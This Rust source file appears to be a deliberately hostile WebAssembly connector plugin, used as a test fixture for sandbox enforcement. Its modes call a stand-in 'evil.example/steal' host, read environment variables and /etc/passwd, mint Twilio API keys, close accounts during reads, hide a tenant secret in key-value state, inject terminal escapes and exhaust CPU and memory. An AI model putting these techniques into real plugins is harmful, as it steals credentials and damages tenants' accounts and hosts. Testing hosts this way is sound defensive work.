//! The misbehaviours, one per `mode`.

wit_bindgen::generate!({
    path: "../../wit",
    world: "connector-plugin",
    with: {
        "wasi:http/outgoing-handler@0.2.12": wasip2::http::outgoing_handler,
        "wasi:http/types@0.2.12": wasip2::http::types,
        "wasi:io/poll@0.2.12": wasip2::io::poll,
        "wasi:io/error@0.2.12": wasip2::io::error,
        "wasi:io/streams@0.2.12": wasip2::io::streams,
        "wasi:clocks/monotonic-clock@0.2.12": wasip2::clocks::monotonic_clock,
        "wasi:clocks/wall-clock@0.2.12": wasip2::clocks::wall_clock,
        "wasi:random/random@0.2.12": wasip2::random::random,
        "wasi:keyvalue/store@0.2.0-draft": generate,
    },
});

use wasi::keyvalue::store as kv;

/// The option `value`, or empty.
fn option<'a>(cfg: &'a Config, key: &str) -> &'a str {
    cfg.options
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
        .unwrap_or_default()
}

use exports::governance::connector::connector::Guest;
use governance::connector::types::*;
use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

/// GET `scheme://authority/path` with extra headers; returns status and body, or the error.
fn get(
    scheme: Scheme,
    authority: &str,
    path: &str,
    headers: &[(&str, &str)],
) -> Result<(u16, String), String> {
    get_full(scheme, authority, path, headers).map(|(s, b, _)| (s, b))
}

/// Like `get`, also returning the `Location` header.
fn get_full(
    scheme: Scheme,
    authority: &str,
    path: &str,
    headers: &[(&str, &str)],
) -> Result<(u16, String, Option<String>), String> {
    send(Method::Get, scheme, authority, path, headers, b"")
}

/// Any method, with a body; status, body and `Location`, or the error.
fn send(
    method: Method,
    scheme: Scheme,
    authority: &str,
    path: &str,
    headers: &[(&str, &str)],
    payload: &[u8],
) -> Result<(u16, String, Option<String>), String> {
    let fields = Fields::new();
    for (k, v) in headers {
        fields
            .append(k, v.as_bytes())
            .map_err(|e| format!("header {k} refused: {e:?}"))?;
    }
    let req = OutgoingRequest::new(fields);
    req.set_method(&method).map_err(|_| "method".to_string())?;
    req.set_scheme(Some(&scheme))
        .map_err(|_| "scheme".to_string())?;
    req.set_authority(Some(authority))
        .map_err(|_| "authority".to_string())?;
    req.set_path_with_query(Some(path))
        .map_err(|_| "path".to_string())?;
    let body = req.body().map_err(|_| "body".to_string())?;
    let fut = wasip2::http::outgoing_handler::handle(req, None).map_err(|e| format!("{e:?}"))?;
    // A refused request closes its body stream: what counts is the answer's outcome.
    if !payload.is_empty()
        && let Ok(out) = body.write()
    {
        let _ = out.blocking_write_and_flush(payload);
        drop(out);
    }
    let _ = OutgoingBody::finish(body, None);
    fut.subscribe().block();
    let resp = fut
        .get()
        .ok_or("not ready")?
        .map_err(|_| "taken")?
        .map_err(|e| format!("{e:?}"))?;
    let status = resp.status();
    let location = resp
        .headers()
        .get("location")
        .first()
        .map(|v| String::from_utf8_lossy(v).into_owned());
    let body = resp.consume().map_err(|_| "consume")?;
    let stream = body.stream().map_err(|_| "stream")?;
    let mut out = Vec::new();
    loop {
        match stream.blocking_read(65536) {
            Ok(c) => out.extend(c),
            Err(wasip2::io::streams::StreamError::Closed) => break,
            Err(e) => return Err(format!("read: {e:?}")),
        }
    }
    Ok((status, String::from_utf8_lossy(&out).into_owned(), location))
}

fn report(text: String) -> AccountPage {
    AccountPage {
        accounts: vec![Account {
            id: "hostile".into(),
            username: None,
            email: None,
            display_name: Some(text),
            status: AccountStatus::Active,
            last_activity: None,
            entitlements: vec![],
            attributes: vec![],
            warnings: vec![],
        }],
        next_cursor: None,
    }
}

#[inline(never)]
fn recurse(n: u64) -> u64 {
    let pad = std::hint::black_box([n; 64]);
    if n == u64::MAX {
        0
    } else {
        recurse(n + 1).wrapping_add(pad[3])
    }
}

struct Hostile;

impl Guest for Hostile {
    fn metadata() -> ConnectorInfo {
        ConnectorInfo {
            name: "hostile".into(),
            version: "0.0.0".into(),
            apps: vec![AppInfo {
                name: "twilio".into(),
                // Terminal escapes: a title change, a screen clear and a bell.
                description: "misbehaves on purpose\u{1b}]0;owned\u{7}\u{1b}[2J".into(),
                // Declares a foreign host too: the host must not trust it.
                hosts: vec!["api.twilio.com".into(), "evil.example".into()],
                capabilities: vec![Capability::ListAccounts],
                // Declares what it should not be granted: a credential route, a foreign host,
                // and a write to any account for suspend.
                routes: vec![
                    Route {
                        method: HttpMethod::Get,
                        host: "api.twilio.com".into(),
                        path: "/2010-04-01/Accounts.json".into(),
                        actions: vec![],
                    },
                    Route {
                        method: HttpMethod::Get,
                        host: "api.twilio.com".into(),
                        path: "/2010-04-01/Accounts.xml".into(),
                        actions: vec![],
                    },
                    Route {
                        method: HttpMethod::Post,
                        host: "api.twilio.com".into(),
                        path: "/2010-04-01/Accounts/{AC}/Keys.json".into(),
                        actions: vec!["suspend".into()],
                    },
                    Route {
                        method: HttpMethod::Get,
                        host: "api.twilio.com".into(),
                        path: "/2010-04-01/Accounts/{AC}/Keys.json".into(),
                        actions: vec![],
                    },
                    Route {
                        method: HttpMethod::Post,
                        host: "api.twilio.com".into(),
                        path: "/2010-04-01/Accounts/{AC}.json".into(),
                        actions: vec!["suspend".into()],
                    },
                    Route {
                        method: HttpMethod::Get,
                        host: "evil.example".into(),
                        path: "/steal".into(),
                        actions: vec![],
                    },
                ],
            }],
        }
    }

    fn check(_cfg: Config) -> Result<String, ConnectorError> {
        Ok("hostile\u{1b}[31m\r\u{9b}2J".into())
    }

    fn list_accounts(cfg: Config, _cursor: Option<String>) -> Result<AccountPage, ConnectorError> {
        let mode = cfg
            .options
            .iter()
            .find(|(k, _)| k == "mode")
            .map(|(_, v)| v.as_str())
            .unwrap_or("unset");
        let accounts = "/2010-04-01/Accounts.json";
        let text = match mode {
            "ok" => "ok".to_string(),
            // State kept in the instance: a fresh instance per call always counts 1.
            "remember" => {
                static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
                let n = CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1;
                format!("calls seen: {n}")
            }
            // Without a mode (a conformance run), it quietly tries a host it did not declare.
            "unset" => {
                let _ = get(Scheme::Https, "steal.twilio.com", "/collect", &[]);
                "ok".to_string()
            }
            "foreign-host" => format!("{:?}", get(Scheme::Https, "evil.example", "/steal", &[])),
            "plain-http" => format!("{:?}", get(Scheme::Http, "api.twilio.com", accounts, &[])),
            "other-port" => format!(
                "{:?}",
                get(Scheme::Https, "api.twilio.com:8443", accounts, &[])
            ),
            // Follow a redirect by hand: the host does not follow redirects, so the guest must,
            // and the follow-up is an ordinary request that meets the allowlist.
            "redirect" => match get_full(Scheme::Https, "api.twilio.com", accounts, &[]) {
                Ok((status, _, Some(loc))) => {
                    let rest = loc.trim_start_matches("https://");
                    let (auth, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
                    format!(
                        "first {status}; follow: {:?}",
                        get(Scheme::Https, auth, path, &[])
                    )
                }
                other => format!("no redirect: {other:?}"),
            },
            "own-auth" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[("authorization", "Basic QUM6c3RvbGVu")]
                )
            ),
            "echo" => match get(Scheme::Https, "api.twilio.com", accounts, &[]) {
                Ok((_, body)) => body,
                Err(e) => e,
            },
            "env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                let root = std::fs::read_dir("/")
                    .map(|d| d.count())
                    .map_err(|e| e.to_string());
                let passwd = std::fs::read_to_string("/etc/passwd")
                    .map(|s| s.len())
                    .map_err(|e| e.to_string());
                let args: Vec<String> = std::env::args().collect();
                format!("vars={vars:?} root={root:?} passwd={passwd:?} args={args:?}")
            }
            "loop" => {
                let mut x = 0u64;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hog: Vec<Vec<u8>> = Vec::new();
                loop {
                    hog.push(vec![1u8; 8 << 20]);
                    std::hint::black_box(&hog);
                }
            }
            "recurse" => format!("{}", recurse(0)),
            "huge" => "x".repeat(48 << 20),
            "flood" => {
                let mut last = String::new();
                for _ in 0..100_000 {
                    match get(Scheme::Https, "api.twilio.com", accounts, &[]) {
                        Ok(_) => {}
                        Err(e) => {
                            last = e;
                            break;
                        }
                    }
                }
                last
            }
            "trap" => panic!("hostile plugin panicked on purpose"),
            // Make the host hold memory: thousands of header maps of 120 KiB each.
            "fields" => {
                let value = "v".repeat(120 * 1024);
                let mut kept = Vec::new();
                let mut stopped = String::from("never");
                for i in 0..20_000 {
                    let f = Fields::new();
                    if let Err(e) = f.append("x-pad", value.as_bytes()) {
                        stopped = format!("append {i}: {e:?}");
                        kept.push(f);
                        break;
                    }
                    kept.push(f);
                }
                format!("kept {} fields; stopped: {stopped}", kept.len())
            }
            // Keep the host busy inside its own functions: endless draws just under the cap.
            "random-small" => {
                let mut total = 0usize;
                loop {
                    total += wasip2::random::random::get_random_bytes(1 << 20).len();
                    std::hint::black_box(total);
                }
            }
            // Hold as many resources as the host will make: small header maps, never dropped.
            "many-fields" => {
                let mut kept = Vec::new();
                for _ in 0..200_000 {
                    kept.push(Fields::new());
                }
                format!("kept {}", kept.len())
            }
            // Make the host generate randomness: one 64 MiB draw, then many.
            "random" => {
                let mut total = 0usize;
                for _ in 0..380 {
                    total += wasip2::random::random::get_random_bytes(64 << 20).len();
                }
                format!("drew {total} bytes")
            }
            // A route it never declared, on a host it did.
            "undeclared" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    "/2010-04-01/Accounts/AC0000000000000000000000000000b001/Usage/Records.json",
                    &[]
                )
            ),
            // Mint a lasting credential during a read.
            "mint-key" => {
                let keys = format!("/2010-04-01/Accounts/{}/Keys.json", cfg.account_id);
                let post = send(
                    Method::Post,
                    Scheme::Https,
                    "api.twilio.com",
                    &keys,
                    &[("content-type", "application/x-www-form-urlencoded")],
                    b"FriendlyName=x",
                );
                let get = send(
                    Method::Get,
                    Scheme::Https,
                    "api.twilio.com",
                    &keys,
                    &[],
                    b"",
                );
                format!("post={post:?} get={get:?}")
            }
            "secondary-token" => format!(
                "{:?}",
                send(
                    Method::Post,
                    Scheme::Https,
                    "accounts.twilio.com",
                    "/v1/AuthTokens/Secondary",
                    &[],
                    b""
                )
            ),
            // Another representation of the same resource.
            "xml" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    "/2010-04-01/Accounts.xml",
                    &[]
                )
            ),
            "gzip" => format!(
                "header={:?} plain={:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[("accept-encoding", "gzip")]
                ),
                get(Scheme::Https, "api.twilio.com", accounts, &[])
            ),
            "trace" => format!(
                "{:?}",
                send(
                    Method::Trace,
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[],
                    b""
                )
            ),
            "range" => format!(
                "{:?}",
                get(
                    Scheme::Https,
                    "api.twilio.com",
                    accounts,
                    &[("range", "bytes=0-10")]
                )
            ),
            // Keep the tenant's credential (told to it by the test) in host-kept state, raw and
            // hidden inside a longer value.
            "state-secret" => {
                let secret = option(&cfg, "value");
                let b =
                    kv::open("tenant").map_err(|e| ConnectorError::Transport(format!("{e:?}")))?;
                let raw = b.set("stolen", secret.as_bytes());
                let hidden = b.set("hidden", format!("prefix-{secret}-suffix").as_bytes());
                let as_key = b.set(secret, b"x");
                format!("raw={raw:?} hidden={hidden:?} key={as_key:?}")
            }
            // Fill host-kept state until the host says no.
            "state-flood" => {
                let b =
                    kv::open("tenant").map_err(|e| ConnectorError::Transport(format!("{e:?}")))?;
                let chunk = vec![b'x'; 1 << 20];
                let mut stored = 0;
                let mut stop = String::from("never");
                for i in 0..10_000 {
                    match b.set(&format!("k{i}"), &chunk) {
                        Ok(()) => stored += 1,
                        Err(e) => {
                            stop = format!("{e:?}");
                            break;
                        }
                    }
                }
                format!("stored {stored} MiB; stopped: {stop}")
            }
            // Write a value to the tenant bucket, then fail or succeed as told.
            "state-write" => {
                let b =
                    kv::open("tenant").map_err(|e| ConnectorError::Transport(format!("{e:?}")))?;
                let r = b.set("k", option(&cfg, "value").as_bytes());
                if option(&cfg, "then") == "fail" {
                    return Err(ConnectorError::Upstream(UpstreamError {
                        status: 500,
                        code: None,
                        message: "failing after a state write, on purpose".into(),
                    }));
                }
                format!("{r:?}")
            }
            // Read every bucket it can name, and some it should not be able to.
            // Keep a value in the listing's bucket and ask for a next page.
            "listing-write" => {
                let b =
                    kv::open("listing").map_err(|e| ConnectorError::Transport(format!("{e:?}")))?;
                format!("{:?}", b.set("k", option(&cfg, "value").as_bytes()))
            }
            "state-read" => {
                let read = |name: &str| match kv::open(name) {
                    Ok(b) => format!(
                        "{:?}",
                        b.get("k")
                            .map(|v| v.map(|v| String::from_utf8_lossy(&v).into_owned()))
                    ),
                    Err(e) => format!("{e:?}"),
                };
                ["tenant", "listing", "", "../other", "tenant/other", "other"]
                    .iter()
                    .map(|n| format!("{n}={}", read(n)))
                    .collect::<Vec<_>>()
                    .join(" ")
            }
            "write-during-read" => {
                let target = format!("/2010-04-01/Accounts/{}.json", cfg.account_id);
                format!(
                    "{:?}",
                    send(
                        Method::Post,
                        Scheme::Https,
                        "api.twilio.com",
                        &target,
                        &[("content-type", "application/x-www-form-urlencoded")],
                        b"Status=closed"
                    )
                )
            }
            other => {
                return Err(ConnectorError::InvalidConfig(format!(
                    "unknown mode {other}"
                )));
            }
        };
        let mut page = report(text);
        if mode == "listing-write" {
            page.next_cursor = Some("next".into());
        }
        Ok(page)
    }

    fn get_account(_cfg: Config, id: String) -> Result<Account, ConnectorError> {
        Err(ConnectorError::NotFound(id))
    }

    /// Ignores `dry_run` and closes the connecting account, whatever id it was given.
    fn suspend(cfg: Config, id: String, dry_run: bool) -> Result<ActionResult, ConnectorError> {
        let target = format!("/2010-04-01/Accounts/{}.json", cfg.account_id);
        let outcome = send(
            Method::Post,
            Scheme::Https,
            "api.twilio.com",
            &target,
            &[("content-type", "application/x-www-form-urlencoded")],
            b"Status=closed",
        );
        Ok(ActionResult {
            account_id: id,
            action: "suspend".into(),
            dry_run,
            changed: outcome.is_ok(),
            status: None,
            message: format!("{outcome:?}"),
            warnings: vec![],
        })
    }

    fn reactivate(_c: Config, _i: String, _d: bool) -> Result<ActionResult, ConnectorError> {
        Err(ConnectorError::Unsupported("hostile".into()))
    }

    fn deprovision(_c: Config, _i: String, _d: bool) -> Result<ActionResult, ConnectorError> {
        Err(ConnectorError::Unsupported("hostile".into()))
    }

    fn provision(
        _c: Config,
        _r: ProvisionRequest,
        _d: bool,
    ) -> Result<ActionResult, ConnectorError> {
        Err(ConnectorError::Unsupported("hostile".into()))
    }
}

export!(Hostile);
